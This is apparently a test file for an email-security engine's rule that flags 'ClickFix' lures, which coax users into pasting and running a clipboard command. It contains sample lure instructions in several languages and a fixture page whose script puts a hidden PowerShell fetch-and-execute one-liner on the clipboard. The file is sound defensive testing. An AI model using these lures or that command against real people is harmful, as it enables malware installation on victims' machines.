// "ClickFix" (issue 10, thirty-sixth round): the steps that make the reader paste and run a command a web page has put
// on the clipboard (Windows key + R, Ctrl + V, Enter) are PASTE_AND_RUN, and the classifiers' ham opinion of the words
// around them does not count against it; an IT desk's instructions with their own path and a warning that describes
// the trick are not read (src/engine/rules/paste_and_run.ts, src/engine/index.ts).
import { describe, expect, it } from 'vitest'
import { createEngine, type EngineSettings } from '../../src/engine/index'
import { DEFAULT_ENGINE_SETTINGS } from '../../src/engine/settings'
import { buildMail } from '../helpers/mail'

const FACTS = { mailFrom: 'it-support@corp.example', rcptTo: ['staff@corp.example'] }
const engine = createEngine(DEFAULT_ENGINE_SETTINGS)

async function stepsOf(text: string, settings: EngineSettings = DEFAULT_ENGINE_SETTINGS, html?: string) {
  const raw = buildMail({ headers: { From: 'IT Service Desk <it-support@corp.example>', Subject: 'Action required' }, text, html })
  const r = await (settings === DEFAULT_ENGINE_SETTINGS ? engine : createEngine(settings)).score(raw, FACTS)
  return { evidence: r.symbols.find((s) => s.name === 'PASTE_AND_RUN')?.evidence, r }
}

describe('PASTE_AND_RUN: the steps that paste and run a command', () => {
  it('fires on the Run dialog, the paste keys and Enter, in the seven languages, and on the Mac\'s Spotlight and the Windows key + X menu', async () => {
    const cases: Array<[string, string]> = [
      ['Your Outlook client failed the verification. To fix this:\n1. Press the Windows key + R\n2. Press CTRL + V to paste the verification code\n3. Press Enter', 'Windows key + R … CTRL + V … Enter'],
      ['Um den Fehler zu beheben:\n1. Drücken Sie die Windows-Taste + R\n2. Fügen Sie den Code mit Strg + V ein\n3. Drücken Sie die Eingabetaste', 'Windows-Taste + R … Strg + V … Eingabetaste'],
      ['Om te verifiëren: druk op Win+R, druk op Ctrl+V en druk op Enter.', 'Win+R … Ctrl+V … Enter'],
      ['Para corrigir: 1. Pressione as teclas Windows + R 2. Pressione Ctrl + V para colar o código 3. Pressione Enter', 'Windows + R … Ctrl + V … Enter'],
      ['Para verificar que no es un robot: pulse la tecla Windows + R, luego Ctrl + V y pulse Intro.', 'tecla Windows + R … Ctrl + V … Intro'],
      ['Pour vérifier que vous êtes humain : appuyez sur la touche Windows + R, puis Ctrl + V, puis sur Entrée.', 'touche Windows + R … Ctrl + V … Entrée'],
      ['Per verificare: premi il tasto Windows + R, poi Ctrl + V e premi Invio.', 'tasto Windows + R … Ctrl + V … Invio'],
      ['To install the update on your Mac: press Command + Space, type Terminal, press Command + V and press Return.', 'Command + Space … Command + V … Return'],
      ['Press Win + X, choose Terminal (Admin), press Ctrl + V and hit Enter.', 'Win + X … Ctrl + V … Enter'],
    ]
    for (const [text, evidence] of cases) expect((await stepsOf(text)).evidence, text).toBe(evidence)
    // in an HTML-only message, its text read
    expect((await stepsOf('', DEFAULT_ENGINE_SETTINGS, '<p>Verify you are human:</p><p>1. Press <b>Windows + R</b><br>2. Press <b>CTRL + V</b><br>3. Press <b>Enter</b></p>')).evidence).toBe('Windows + R … CTRL + V … Enter')
  })
  it('does not fire on the same keys with a path of their own to paste, typed rather than pasted, out of order or too far apart, or in a warning that describes the trick', async () => {
    const texts = [
      // the IT desk's instructions show what is pasted: a share, a drive path, a variable
      'To open the scans folder: press Windows key + R, press Ctrl + V to paste \\\\fileserver\\scans and press Enter.',
      'Press Win+R, paste C:\\Program Files\\Acme\\reset.exe with Ctrl+V and press Enter.',
      'Press Win+R, press Ctrl+V to paste %appdata%\\Microsoft\\Signatures and press Enter, then delete the old signature.',
      // typed, not pasted
      'Press Windows key + R, type mstsc and press Enter to start the remote desktop.',
      // the paste keys and Enter without the Run dialog, the Run dialog after the paste
      'Copy the code, press Ctrl + V in the field and press Enter.',
      'Press Ctrl + V, then press Enter, then Windows key + R.',
      // too far apart
      `Press Windows key + R. ${'Then wait for the window to open and read the instructions. '.repeat(6)}Press Ctrl + V and Enter.`,
      // a warning to staff: the trick named a scam, an attack, ClickFix
      'Beware of fake CAPTCHA pages: if a web page asks you to press Windows key + R, then Ctrl + V and Enter, it is a scam. Close the page and call us.',
      'Attackers now ask users to press Win+R, then Ctrl+V, then Enter to "verify they are human". Never do this.',
      'ClickFix: die Seite verlangt Windows-Taste + R, dann Strg + V und die Eingabetaste. Bitte nie ausführen.',
    ]
    for (const text of texts) expect((await stepsOf(text)).evidence, text).toBeUndefined()
  })
  it('reads the steps in the web page a lure attaches ("open the attachment"), as a browser shows it: not in its script, and not in a user\'s report that attaches the whole message', async () => {
    const page = (body: string) => ({ filename: 'Document_Viewer.htm', contentType: 'text/html', content: `<html><head><script>navigator.clipboard.writeText("powershell -w hidden -c iwr x|iex")</script></head><body>${body}</body></html>` })
    const steps = '<h2>Verify you are human</h2><p>1. Press <b>Windows + R</b></p><p>2. Press <b>CTRL + V</b></p><p>3. Press <b>Enter</b></p>'
    const scoreOf = async (raw: Buffer) => (await engine.score(raw, FACTS)).symbols.find((s) => s.name === 'PASTE_AND_RUN')?.evidence
    const note = (attachments: Parameters<typeof buildMail>[0]['attachments']) => buildMail({ headers: { From: 'Kim Fischer <kim.fischer@corp.example>', Subject: 'Document' }, text: 'Please open the attachment to view the document.', attachments })
    expect(await scoreOf(note([page(steps)]))).toBe('attached page: Windows + R … CTRL + V … Enter')
    // the same keys in the page's script only, which a browser does not show
    expect(await scoreOf(note([{ ...page('<p>Loading…</p>'), content: '<html><script>/* Windows + R, CTRL + V, Enter */</script><body>Loading…</body></html>' }]))).toBeUndefined()
    // a user forwards the lure to IT as an attachment: the page is the report's
    const lure = buildMail({ headers: { Subject: 'Document' }, text: 'Open the attachment.', attachments: [page(steps)] })
    expect(await scoreOf(note([{ filename: 'lure.eml', contentType: 'message/rfc822', content: lure }, page(steps)]))).toBeUndefined()
  })
  it('keeps the classifiers\' ham opinion at 0 or above (floor 0) when it fires, so that the steps are held however ham the words around them look; not where the operator set PASTE_AND_RUN to 0', async () => {
    const hamBands = { ...DEFAULT_ENGINE_SETTINGS, bayes: { ...DEFAULT_ENGINE_SETTINGS.bayes, model: undefined }, scores: { ...DEFAULT_ENGINE_SETTINGS.scores } }
    for (const k of Object.keys(hamBands.scores)) if ((k.startsWith('BAYES_') || k.startsWith('LR_')) && !k.endsWith('SKIPPED')) hamBands.scores[k] = -5
    const text = 'Hello,\n\nYour Outlook client failed the security verification. To fix this:\n1. Press the Windows key + R\n2. Press CTRL + V\n3. Press Enter\n\nIT Service Desk'
    const held = await stepsOf(text, hamBands)
    expect(held.r.symbols.find((s) => s.name === 'CLASSIFIER_CAP')?.evidence).toContain('kept 0 (range 0..7.5, a command to paste and run)')
    expect(held.r.score).toBeGreaterThanOrEqual(8)
    const off = await stepsOf(text, { ...hamBands, scores: { ...hamBands.scores, PASTE_AND_RUN: 0 } })
    expect(off.r.symbols.find((s) => s.name === 'CLASSIFIER_CAP')?.evidence).toContain('kept -3 (range -3..7.5')
  })
})
